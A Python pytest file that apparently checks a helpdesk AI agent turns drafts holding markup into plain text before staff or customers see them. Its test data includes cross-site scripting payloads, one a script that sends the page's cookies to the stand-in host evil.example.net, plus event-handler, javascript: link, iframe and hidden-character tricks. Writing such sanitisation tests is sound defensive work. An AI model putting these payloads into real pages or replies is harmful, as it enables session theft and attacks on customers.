"""F88: a draft holds markup, scripts or pictures: what the agent sees and what the customer gets is plain text."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest

from tests.faults.model_setup import Mind, mind, mode, saying
from tests.harness.deskhand import ANNA

ACTIVE = [
    "Done <script>fetch('https://evil.example.net/?c='+document.cookie)</script> now.",
    "Look <img src=x onerror=alert(1)> here.",
    "Look ![status](https://evil.example.net/p.png?q=nina) here.",
    "Open [the page](javascript:alert(1)) now.",
    'Click <a href="https://evil.example.net">support</a> now.',
    "Look &lt;img src=x onerror=alert(1)&gt; here.",
    "<iframe src='https://evil.example.net'></iframe> Look here.",
    "<svg/onload=alert(1)> Look here.",
    "<style>@import url(https://evil.example.net/x.css)</style> Look here.",
    "<!-- hidden --> Look \u202ehere\u202c.",
]
ALLOWED = {"p", "br", "b", "i", "ol", "ul", "li", "a", "blockquote"}


@pytest.fixture(scope="module")
def asked(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Mind]:
    with mind(tmp_path_factory.mktemp("mind")) as made:
        yield made


@pytest.mark.parametrize("sentence", ACTIVE)
def test_F88_nothing_active_reaches_the_note(asked: Mind, sentence: str) -> None:
    with mode("painting", saying(sentence)) as how:
        ticket = asked.ask(how)

    [note] = asked.run.view(ticket).bot_notes
    tags = {each.lower() for each in re.findall(r"<\s*/?\s*([a-zA-Z]+)", note.html)}
    assert tags <= ALLOWED
    assert not re.search(r"(?i)javascript:|onerror=|onload=|evil|\u202e|hidden", note.html)
    assert not re.search(r"[<>]|!\[", asked.assert_draft(ticket))


def test_F88_what_the_customer_gets_is_the_same_plain_text(asked: Mind) -> None:
    with mode("painting", saying(ACTIVE[1], ACTIVE[2])) as how:
        ticket = asked.ask(how)
    draft = asked.assert_draft(ticket)

    asked.run.desk.agent_update(ticket, agent=ANNA, tags_add=["dh-accept"])
    asked.run.settle(30)

    [reply] = asked.run.view(ticket).bot_replies
    assert "evil" not in reply.html
    assert "<img" not in reply.html
    assert draft.split("\n")[0] in reply.html
